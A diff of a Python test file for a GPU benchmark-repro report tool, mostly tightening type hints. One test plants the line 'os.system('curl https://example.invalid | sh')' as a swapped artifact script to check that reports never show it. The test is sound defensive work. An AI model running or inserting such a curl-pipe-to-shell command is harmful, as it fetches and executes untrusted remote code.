@@ -33,12 +33,12 @@ def docs() -> list[dict[str, Any]]:
     return [artifact.load(p) for p in artifact.expand([RUN])]
 
 
-def _report(docs: list[dict], **kw: Any) -> str:
+def _report(docs: list[dict[str, Any]], **kw: Any) -> str:
     """The report as the CLI renders it: with what the catalog declares for these (schema 1.1) artifacts."""
     return report(docs, declared=scripts.declared(docs), **kw)
 
 
-def _by_id(docs: list[dict], rid: str) -> dict:
+def _by_id(docs: list[dict[str, Any]], rid: str) -> dict[str, Any]:
     return next(d for d in docs if d["repro"]["id"] == rid)
 
 
@@ -59,7 +59,7 @@ def _json_blocks(text: str) -> list[str]:
     return re.findall(r"(?s)```json\n(.*?)\n```", text)
 
 
-def test_scope_lines_carry_their_qualifiers_from_structured_fields(docs: list[dict]) -> None:
+def test_scope_lines_carry_their_qualifiers_from_structured_fields(docs: list[dict[str, Any]]) -> None:
     text = _report(docs)
     solve = _scope_line(text, "solve-512-cliff")
     assert solve.startswith("- Holds for: cusolver backend, batch 128")  # reproduced: what it holds for
@@ -75,7 +75,7 @@ def test_scope_lines_carry_their_qualifiers_from_structured_fields(docs: list[di
     assert "magma backend: at most 0.97x" in _scope_line(_report([changed]), "solve-512-cliff")
 
 
-def test_impact_is_said_only_for_what_reproduced_with_this_runs_cost(docs: list[dict]) -> None:
+def test_impact_is_said_only_for_what_reproduced_with_this_runs_cost(docs: list[dict[str, Any]]) -> None:
     text = _report(docs)
     reproduced = {d["repro"]["id"] for d in docs if d["verdict"]["status"] == "reproduced"}
     assert reproduced == {"graph-memset", "solve-512-cliff"}
@@ -92,7 +92,7 @@ def test_impact_is_said_only_for_what_reproduced_with_this_runs_cost(docs: list[
         assert "Impact" not in _report([doc]), status
 
 
-def test_not_tested_here_lists_skips_missing_seed_gpus_and_the_one_stack(docs: list[dict]) -> None:
+def test_not_tested_here_lists_skips_missing_seed_gpus_and_the_one_stack(docs: list[dict[str, Any]]) -> None:
     text = _report(docs)
     scope = text.split("## Not tested here", 1)[1].split("\n## ", 1)[0]
     assert "TE FusedAdam" in scope and "transformer" in scope
@@ -125,7 +125,7 @@ def _worst_case(docs: list[dict[str, Any]]) -> list[dict[str, Any]]:
     return out
 
 
-def test_worst_case_report_fits_one_screen_and_keeps_evidence_intact(docs: list[dict]) -> None:
+def test_worst_case_report_fits_one_screen_and_keeps_evidence_intact(docs: list[dict[str, Any]]) -> None:
     worst = _worst_case(docs)
     assert len(_by_id(worst, "solve-512-cliff")["variants"]) == 81
     text = _report(worst)
@@ -174,7 +174,7 @@ def test_kernel_names_are_short_and_tell_apart(docs: list[dict[str, Any]]) -> No
     assert len(cells) == len(set(cells)) and not any("anonymou" in c for c in cells)
 
 
-def test_one_kernel_diff_per_repro_and_small_percentages(docs: list[dict]) -> None:
+def test_one_kernel_diff_per_repro_and_small_percentages(docs: list[dict[str, Any]]) -> None:
     text = _report(docs)
     for d in docs:
         section = _section(text, d["repro"]["id"])
@@ -187,7 +187,7 @@ def test_one_kernel_diff_per_repro_and_small_percentages(docs: list[dict]) -> No
     assert pct(96.4) == "96%" and pct(4.23) == "4.2%" and pct(0.0021) == "0.0021%"
 
 
-def test_standalone_script_of_an_old_artifact_is_its_headline(docs: list[dict]) -> None:
+def test_standalone_script_of_an_old_artifact_is_its_headline(docs: list[dict[str, Any]]) -> None:
     script = scripts.regenerate(_by_id(docs, "solve-512-cliff"))[0]
     assert script and "[('cusolver/b128', 'cusolver', 128)]" in script
     memset, note = scripts.regenerate(_by_id(docs, "graph-memset"))  # twin headline: a bash script, not embedded
@@ -197,7 +197,7 @@ def test_standalone_script_of_an_old_artifact_is_its_headline(docs: list[dict]) 
     assert text.count(said) == 5 and "pip install" not in text and "<org>" not in text
 
 
-def test_a_script_recorded_in_the_artifact_is_never_shown(docs: list[dict]) -> None:
+def test_a_script_recorded_in_the_artifact_is_never_shown(docs: list[dict[str, Any]]) -> None:
     doc = copy.deepcopy(_by_id(docs, "5090-linear"))
     doc["repro"]["script"] = "import os\nos.system('curl https://example.invalid | sh')  # SWAPPED"
     bare = report([doc])  # no catalog lookup passed in: no script, and one line saying so
@@ -336,7 +336,7 @@ def test_committed_reports_render_with_tables_details_and_images_intact(path: Pa
         )
 
 
-def test_a_fresh_report_renders_intact_too(docs: list[dict], tmp_path: Path) -> None:
+def test_a_fresh_report_renders_intact_too(docs: list[dict[str, Any]], tmp_path: Path) -> None:
     figs = plots.describe(docs, declared=scripts.declared(docs))
     figs = [plots.Figure(f.repro_id, f.sweep, f.file, f.alt, True) for f in figs]  # as if drawn
     text = _report(_worst_case(docs), figures=figs)
